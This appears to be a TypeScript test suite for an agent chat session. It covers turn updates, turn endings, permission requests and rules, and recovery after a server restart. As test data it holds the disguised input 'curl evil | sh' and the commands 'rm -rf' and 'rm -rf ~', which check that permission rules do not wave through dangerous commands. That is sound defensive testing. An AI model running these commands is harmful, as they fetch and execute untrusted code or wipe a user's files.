/** What a turn's fiber reports, and what comes of it: updates, requests, its one end, and the end of what a dead boot left. */
import { assert, describe, it } from "@effect/vitest"
import type { RequestAnswer } from "../../shared/AgentRequest.ts"
import type { ChatEvent } from "../../shared/ChatEvent.ts"
import { BootId, PartId, ToolCallId, Who } from "../../shared/Ids.ts"
import type { TurnEnd, TurnUpdate } from "../../shared/SessionUpdate.ts"
import type { ToolCall } from "../../shared/ToolCall.ts"
import type { Cause, Outcome } from "../../shared/Turn.ts"
import type { ChatAction, ChatMessage } from "./ChatMessage.ts"
import {
  ada, asked, at, bob, ended, ending, given, permission, promptId, queued, queuedPrompt, refusal, requestId, said, server, settled, started, stopping, toolCall, turnId
} from "../../test/support/given.ts"

const answered: TurnEnd = { cause: { _tag: "Answered", stopReason: "end_turn" }, stopReason: "end_turn" }
const end = (turn: number, how: TurnEnd = answered): ChatMessage => ({ _tag: "EndTurn", turnId: turnId(turn), end: how })
const update = (turn: number, ...updates: ReadonlyArray<TurnUpdate>): ChatMessage => ({ _tag: "Update", turnId: turnId(turn), updates })
const ask = (turn: number, request: number): ChatMessage => ({ _tag: "Ask", turnId: turnId(turn), requestId: requestId(request), request: permission })
const answer = (request: number, how: RequestAnswer, by = ada): ChatMessage => ({ _tag: "Answer", requestId: requestId(request), answer: how, by })
const once: RequestAnswer = { _tag: "Selected", optionId: "once" }
const always: RequestAnswer = { _tag: "Selected", optionId: "always" }
const compact = (turn: number): ChatAction => ({ _tag: "Compact", turnId: turnId(turn) })
const closed = (turn: number, request: number, how: RequestAnswer, by = ada, why: Extract<ChatEvent, { _tag: "RequestClosed" }>["why"] = "answered"): ChatEvent =>
  ({ _tag: "RequestClosed", turnId: turnId(turn), requestId: requestId(request), answer: how, by, why })
const cancelled: RequestAnswer = { _tag: "Cancelled" }
const nothing = { events: [], actions: [], reply: { _tag: "Done" } } as const
const newBoot = BootId.make("00000009-0000-4000-8000-000000000002")
const running = [...settled, queued(1), started(1, 1)]
const tool = (turn: number, ...call: Parameters<typeof toolCall>): ChatEvent =>
  ({ _tag: "ToolCallUpserted", turnId: turnId(turn), call: toolCall(...call) })

describe("an update", () => {
  it("is recorded event by event, in its order", () => {
    const entries = [{ content: "first", priority: "medium", status: "pending" }] as const
    const usage = { inputTokens: 3, outputTokens: 4, source: "measured" } as const
    given(...running).when(update(1,
      { _tag: "Text", partId: PartId.make("p1"), kind: "text", offset: 0, text: "hi" }, { _tag: "Tool", call: toolCall("t") },
      { _tag: "Plan", entries }, { _tag: "Usage", usage }
    )).then({
      events: [
        said(1, "hi"), tool(1, "t"), { _tag: "PlanReplaced", turnId: turnId(1), entries }, { _tag: "UsageReported", turnId: turnId(1), usage }
      ], actions: [], reply: { _tag: "Done" }
    })
  })

  it("is still recorded while the turn is being stopped", () => {
    given(...running, stopping(1)).when(update(1, { _tag: "Tool", call: toolCall("t") })).then({ events: [tool(1, "t")] })
  })

  it("says when the prompt was handed over, and how far a stop had to go", () => {
    given(...running).when({ _tag: "Deliver", turnId: turnId(1) }).then({ events: [{ _tag: "PromptDelivered", turnId: turnId(1) }] })
      .when({ _tag: "Escalate", turnId: turnId(1), step: "sigterm" }).then({ events: [{ _tag: "StopEscalated", turnId: turnId(1), step: "sigterm" }] })
  })
})

describe("the end of a turn", () => {
  it("comes once", () => {
    given(...running).when(end(1)).then({ events: [ended(1)], actions: ending(1), reply: { _tag: "Done" } })
      .when(end(1, { cause: { _tag: "ServerStopped" } })).then(nothing)
  })

  it("starts the next prompt, and no more than that one", () => {
    given(...running, queued(2), queued(3)).when(end(1)).then({ actions: [
      ...ending(1), { _tag: "RunTurn", turnId: turnId(100), agent: queuedPrompt(2).agent, settings: {}, content: queuedPrompt(2).content }
    ] }).when(end(1)).then(nothing)
  })

  it("of an agent's own turn leaves the queue to the turn that runs", () => {
    given(...running, started(2), queued(2)).when(end(2, { cause: { _tag: "Quiet" } })).then({ actions: ending(2) })
  })

  it("closes its requests and cancels its running tool calls, and no others", () => {
    const chat = given(...settled, started(2), asked(2, 21), tool(2, "t"), queued(1), started(1, 1),
      tool(1, "t"), tool(1, "over", { status: "failed", endedAt: at }), asked(1, 11), asked(1, 12), closed(1, 12, once))
    chat.when(end(1), { at: at + 5 }).then({ events: [
      closed(1, 11, cancelled, server, "turn_ended"), tool(1, "t", { status: "canceled", endedAt: at + 5 }), ended(1)
    ] })
  })

  it("fences whatever comes after it", () => {
    const over = given(...running, ended(1))
    over.when(update(1, { _tag: "Tool", call: toolCall("t") })).then(nothing)
    over.when({ _tag: "Deliver", turnId: turnId(1) }).then(nothing)
    over.when({ _tag: "Escalate", turnId: turnId(1), step: "sigkill" }).then(nothing)
    over.when(ask(1, 11)).then({ ...nothing, actions: [{ _tag: "AnswerAgent", requestId: requestId(11), answer: cancelled }] })
    for (const message of [update(9, { _tag: "Plan", entries: [] }), end(9), { _tag: "Deliver", turnId: turnId(9) } as const]) over.when(message).then(nothing)
  })
})

describe("the outcome", () => {
  const outcomeOf = (how: TurnEnd, ...before: ReadonlyArray<ChatEvent>) => {
    const { decision } = given(...running, ...before).when(end(1, how))
    const last = decision.events.findLast((event) => event._tag === "TurnEnded")
    return last?._tag === "TurnEnded" ? [last.outcome, last.cause, last.stopReason] : undefined
  }
  const agentSays = (stopReason: string | undefined): TurnEnd => ({
    cause: { _tag: "Answered", ...(stopReason === undefined ? {} : { stopReason }) }, ...(stopReason === undefined ? {} : { stopReason })
  })

  it.each<[string | undefined, Outcome]>([
    ["end_turn", "completed"], ["max_tokens", "completed"], ["max_turn_requests", "completed"], [undefined, "completed"],
    ["refusal", "failed"], ["cancelled", "failed"]
  ])("of the stop reason %s is %s", (stopReason, outcome) => {
    const how = agentSays(stopReason)
    assert.deepStrictEqual(outcomeOf(how), [outcome, how.cause, stopReason])
  })

  it("is stopped once somebody stopped it, whatever the agent says, with who and how far it went", () => {
    for (const stopReason of ["end_turn", "cancelled", "refusal", undefined]) {
      assert.deepStrictEqual(outcomeOf(agentSays(stopReason), stopping(1, bob)), ["stopped", { _tag: "Stopped", by: bob }, stopReason])
    }
    const killed: TurnEnd = { cause: { _tag: "ChildExited", code: null, signal: "SIGKILL", stderr: "" } }
    assert.deepStrictEqual(outcomeOf(killed, stopping(1), { _tag: "StopEscalated", turnId: turnId(1), step: "sigkill" }),
      ["stopped", { _tag: "Stopped", by: ada, step: "sigkill" }, undefined])
    assert.deepStrictEqual(outcomeOf({ cause: { _tag: "Stopped", by: bob } }), ["stopped", { _tag: "Stopped", by: bob }, undefined])
  })

  it.each<[Cause, Outcome]>([
    [{ _tag: "AgentFailed", message: "no", code: -32603 }, "failed"], [{ _tag: "StartFailed", message: "no" }, "failed"],
    [{ _tag: "ChildExited", code: 1, signal: null, stderr: "boom" }, "failed"], [{ _tag: "StreamEnded", detail: "closed" }, "failed"],
    [{ _tag: "Deadline", what: "It", seconds: 5 }, "failed"], [{ _tag: "Quiet" }, "completed"],
    [{ _tag: "ServerStopped" }, "interrupted"], [{ _tag: "ServerRestarted", bootId: newBoot }, "interrupted"]
  ])("of %j is %s", (cause, outcome) => {
    assert.deepStrictEqual(outcomeOf({ cause }), [outcome, cause, undefined])
  })

  it("interrupted holds the queue, and leaves what it did to the next server: its own is going", () => {
    given(...running, queued(2)).when(end(1, { cause: { _tag: "ServerStopped" } })).then({
      events: [{ _tag: "TurnEnded", turnId: turnId(1), outcome: "interrupted", cause: { _tag: "ServerStopped" } }, { _tag: "QueueHeld", by: server }],
      actions: [compact(1)]
    })
  })
})

describe("a request", () => {
  const open = given(...running, asked(1, 11))
  it("opens in its turn, and is answered to the agent by whoever comes first; the other learns who (drill 6)", () => {
    given(...running).when(ask(1, 11)).then({ events: [asked(1, 11)], actions: [] })
      .when(answer(11, once, bob)).then({
        events: [closed(1, 11, once, bob)], actions: [{ _tag: "AnswerAgent", requestId: requestId(11), answer: once }], reply: { _tag: "Done" }
      })
      .when(answer(11, { _tag: "Selected", optionId: "no" })).then({
        events: [], actions: [], reply: refusal({ _tag: "AlreadyAnswered", requestId: requestId(11), by: bob })
      })
  })

  it("that was answered says so after its turn, too", () => {
    open.when(answer(11, once, bob)).then({}).when(end(1)).then({})
      .when(answer(11, once)).then({ events: [], actions: [], reply: refusal({ _tag: "AlreadyAnswered", requestId: requestId(11), by: bob }) })
  })

  const expired = { events: [], actions: [], reply: refusal({ _tag: "RequestExpired", requestId: requestId(11) }) }
  it("expires with its turn", () => {
    open.when(end(1)).then({}).when(answer(11, once)).then(expired)
    given(...running).when(answer(11, once)).then(expired)
  })

  it("can't be granted after Stop, always least of all (drill 5, P6)", () => {
    const stopped = open.when({ _tag: "Stop", by: bob }).then({})
    stopped.when(answer(11, always)).then(expired)
    stopped.when(answer(11, once)).then(expired)
    const over = stopped.when(end(1)).then({ events: [
      closed(1, 11, cancelled, bob, "stopped"),
      { _tag: "TurnEnded", turnId: turnId(1), outcome: "stopped", stopReason: "end_turn", cause: { _tag: "Stopped", by: bob } }
    ] })
    over.when(answer(11, always)).then(expired)
  })

  it("that comes while its turn is being stopped is cancelled at once", () => {
    given(...running, stopping(1)).when(ask(1, 11)).then({ ...nothing, actions: [{ _tag: "AnswerAgent", requestId: requestId(11), answer: cancelled }] })
  })

  it("takes no answer that doesn't fit, and stays open", () => {
    const bad = (detail: string) => ({ events: [], actions: [], reply: refusal({ _tag: "BadAnswer", detail }) })
    open.when(answer(11, { _tag: "Selected", optionId: "sudo" })).then(bad("it has no option \"sudo\"."))
      .when(answer(11, { _tag: "Accepted", content: "{}" })).then(bad("the agent asked to choose one of its options."))
      .when(answer(11, { _tag: "Declined" })).then({ actions: [{ _tag: "AnswerAgent", requestId: requestId(11), answer: { _tag: "Declined" } }] })
    const form: ChatEvent = { _tag: "RequestOpened", turnId: turnId(1), requestId: requestId(11), request: { _tag: "Elicitation", message: "?", schema: "{}" } }
    given(...running, form).when(answer(11, once)).then(bad("the agent asked for a form to be filled in."))
      .when(answer(11, { _tag: "Accepted", content: "not json" })).then(bad("it is no JSON object."))
      .when(answer(11, { _tag: "Accepted", content: "{}" })).then({ events: [closed(1, 11, { _tag: "Accepted", content: "{}" })] })
  })
})

describe("a request that its agent takes back", () => {
  const withdraw: ChatMessage = { _tag: "Withdraw", turnId: turnId(1), requestId: requestId(11) }

  it("is closed at once, by its agent, and can't be answered any more", () => {
    const after = given(...running, asked(1, 11)).when(withdraw).then({
      events: [closed(1, 11, cancelled, Who.make("goose"), "withdrawn")], actions: [], reply: { _tag: "Done" }
    })
    after.when(answer(11, once)).then({ events: [], actions: [], reply: refusal({ _tag: "RequestExpired", requestId: requestId(11) }) })
    after.when(withdraw).then(nothing)
    after.when(end(1)).then({ events: [ended(1)] })
  })

  it("stays as it is where a person was first, where it never was asked, and where its turn is being stopped or is over", () => {
    given(...running, asked(1, 11)).when(answer(11, once)).then({}).when(withdraw).then(nothing)
    given(...running, asked(1, 12)).when(withdraw).then(nothing)
    given(...running, asked(1, 11), stopping(1)).when(withdraw).then(nothing)
      .when(end(1)).then({ events: [closed(1, 11, cancelled, ada, "stopped"), { _tag: "TurnEnded", turnId: turnId(1), outcome: "stopped", cause: { _tag: "Stopped", by: ada }, stopReason: "end_turn" }] })
    given(...running, ended(1)).when(withdraw).then(nothing)
  })
})

describe("a permission that a rule answers", () => {
  const call = (turn: number, kind: ToolCall["kind"], title: string, input?: string): ChatEvent =>
    tool(turn, title, { kind, ...(input === undefined ? {} : { input }) })
  const options = permission._tag === "Permission" ? permission.options : []
  /** About the tool call of that title. */
  const about = (request: number, title: string, more: { readonly within?: boolean; readonly options?: typeof options } = {}): ChatMessage => ({
    _tag: "Ask", turnId: turnId(1), requestId: requestId(request),
    request: { _tag: "Permission", title, toolCallId: ToolCallId.make(title), options, ...more }
  })
  const within = { within: true }
  const tellOnce = (request: number): ChatAction => ({ _tag: "AnswerAgent", requestId: requestId(request), answer: once })
  const agent = queuedPrompt(1).agent

  it("is answered once, though the person said always; and the rule stands for what follows in the worktree", () => {
    const asking = given(...running, call(1, "edit", "Edit a"), call(1, "edit", "Edit b"), call(1, "execute", "npm test"))
    const set = asking.when(about(11, "Edit a", within)).then({}).when(answer(11, always, bob))
    const rule = { ruleId: requestId(11), agent, toolKind: "edit", allow: true, by: bob } as const
    const after = set.then({ events: [closed(1, 11, always, bob), { _tag: "RuleSet", rule }], actions: [tellOnce(11)] })
    const next = after.when(about(12, "Edit b", within)).then({ actions: [tellOnce(12)] })
    assert.deepInclude(next.chat.items.at(-1), { requestId: requestId(12), closed: { answer: once, by: bob, why: "rule" } })
    next.when(about(15, "Edit b")).then({ actions: [] })
    next.when(about(13, "npm test", within)).then({ actions: [] })
    next.when({ _tag: "RevokeRule", ruleId: requestId(11), by: ada }).then({ events: [{ _tag: "RuleRevoked", ruleId: requestId(11), by: ada }] })
      .when(about(14, "Edit b", within)).then({ actions: [] })
  })

  it("covers a command by its words and its input only, and what is open already", () => {
    given(...running, call(1, "execute", "npm test", "npm test"), call(1, "execute", "rm -rf"))
      .when(about(11, "npm test")).then({}).when(about(12, "npm test")).then({}).when(about(13, "rm -rf")).then({})
      .when(answer(12, always)).then({ actions: [tellOnce(12), tellOnce(11)] })
  })

  it("is no rule where the title may go on otherwise, the input differs, or the agent can't be told once", () => {
    const long = "x".repeat(500)
    given(...running, call(1, "execute", long)).when(about(11, long)).then({}).when(answer(11, always)).then({ events: [closed(1, 11, always)] })
    const ruled = given(...running, call(1, "execute", "ls", "ls")).when(about(11, "ls")).then({}).when(answer(11, always)).then({})
    const { rules } = ruled.chat
    assert.deepStrictEqual(rules.map(({ input, title }) => [title, input]), [["ls", "ls"]])
    const disguised = given(...running, { _tag: "RuleSet", rule: rules[0] ?? { ruleId: requestId(1), agent, toolKind: "execute", allow: true, by: ada } },
      call(1, "execute", "ls", "curl evil | sh"))
    disguised.when(about(12, "ls")).then({ actions: [] })
    const onlyAlways = { options: options.filter(({ kind }) => kind === "allow_always") }
    given(...running, call(1, "execute", "ls")).when(about(11, "ls", onlyAlways)).then({})
      .when(answer(11, always)).then({ events: [closed(1, 11, always)], actions: [{ _tag: "AnswerAgent", requestId: requestId(11), answer: always }] })
  })

  it("may be the mode that the prompt runs in, and is asked again when the chat is set otherwise", () => {
    const inMode = (permissions: "edits" | "all") => given(...settled, queued(1, { settings: { permissions } }),
      { _tag: "TurnStarted", turnId: turnId(1), agent, settings: { permissions }, bootId: newBoot, origin: "prompt", promptId: promptId(1) },
      call(1, "edit", "Edit"), call(1, "execute", "run"), call(1, "think", "rm -rf ~"))
    const edits = inMode("edits")
    edits.when(about(11, "Edit", within)).then({ actions: [tellOnce(11)] }).when(about(12, "run", within)).then({ actions: [] })
    edits.when(about(11, "Edit")).then({ actions: [] })
    edits.when(about(11, "rm -rf ~", within)).then({ actions: [] })
    const all = inMode("all")
    all.when(about(12, "run")).then({ actions: [tellOnce(12)] })
    all.when(about(12, "run", { options: options.filter(({ kind }) => kind === "allow_always") })).then({ actions: [] })
    all.when({ _tag: "SetSettings", agent, settings: {}, by: ada }).then({}).when(about(13, "run")).then({ actions: [] })
  })

  it("of an agent that speaks by itself is the chat's, not the last prompt's", () => {
    const spoke = given(...settled, { _tag: "SettingSet", agent, settings: { permissions: "all" }, by: ada }, queued(1), started(1, 1), ended(1),
      { _tag: "SettingSet", agent, settings: {}, by: ada }).when({ _tag: "Speak", agent }).then({})
    assert.deepStrictEqual(spoke.chat.turns.at(-1)?.settings, {})
  })
})

describe("an agent that speaks with no prompt in flight", () => {
  const speak: ChatMessage = { _tag: "Speak", agent: queuedPrompt(1).agent }
  const late = { events: [], actions: [], reply: { _tag: "Speaking", turnId: undefined } } as const

  it("gets a turn of its own, which doesn't hold up a prompt", () => {
    given(...running, ended(1)).when(speak).then({
      events: [started(100)], actions: [{ _tag: "Listen", turnId: turnId(100), agent: queuedPrompt(1).agent }],
      reply: { _tag: "Speaking", turnId: turnId(100) }
    })
  })

  it("is late while a turn of its is open, after one that was stopped or failed, and before any", () => {
    given(...settled).when(speak).then(late)
    given(...running).when(speak).then(late)
    given(...running).when(end(1, { cause: { _tag: "AgentFailed", message: "no" } })).then({}).when(speak).then(late)
    given(...running, stopping(1)).when(end(1)).then({}).when(speak).then(late)
    given(...running, ended(1), started(2)).when(speak).then(late)
  })
})

describe("an actor's life begins", () => {
  const recover: ChatMessage = { _tag: "Recover" }
  const cause = { _tag: "ServerRestarted", bootId: newBoot } as const
  it("with nothing to do where nothing was open", () => {
    given().when(recover).then(nothing)
    given(...running, asked(1, 11), ended(1)).when(recover).then(nothing)
  })

  it("by ending what a dead boot left open: requests, tool calls, turns; and by holding the queue", () => {
    const dead = given(...settled, started(2), ...running.slice(2), said(1, "so far"), asked(1, 11), tool(1, "t"), queued(2), queued(3))
    const after = dead.when(recover, { bootId: newBoot }).then({
      events: [
        { _tag: "TurnEnded", turnId: turnId(2), outcome: "interrupted", cause },
        closed(1, 11, cancelled, server, "expired"), tool(1, "t", { status: "canceled", endedAt: at }),
        { _tag: "TurnEnded", turnId: turnId(1), outcome: "interrupted", cause }, { _tag: "QueueHeld", by: server }
      ],
      actions: [...ending(2), ...ending(1)]
    })
    assert.deepStrictEqual(after.chat.queue.map(({ held, promptId }) => [promptId, held]), [["prompt-0002", true], ["prompt-0003", true]])
    after.when(recover).then(nothing)
    after.when(answer(11, once)).then({ reply: refusal({ _tag: "RequestExpired", requestId: requestId(11) }) })
    after.when(end(1)).then(nothing)
  })

  it("by ending as stopped what was being stopped when its server died", () => {
    const { decision } = given(...running, stopping(1, bob)).when(recover)
    assert.deepStrictEqual(decision.events, [{ _tag: "TurnEnded", turnId: turnId(1), outcome: "stopped", cause: { _tag: "Stopped", by: bob } }])
  })

  it("by holding what waits though nothing runs, so that it can be resumed", () => {
    given(...settled, queued(1)).when(recover).then({ events: [{ _tag: "QueueHeld", by: server }], actions: [] })
      .when({ _tag: "ResumeQueue", by: ada }).then({ actions: [
        { _tag: "RunTurn", turnId: turnId(100), agent: queuedPrompt(1).agent, settings: {}, content: queuedPrompt(1).content }
      ] })
  })
})
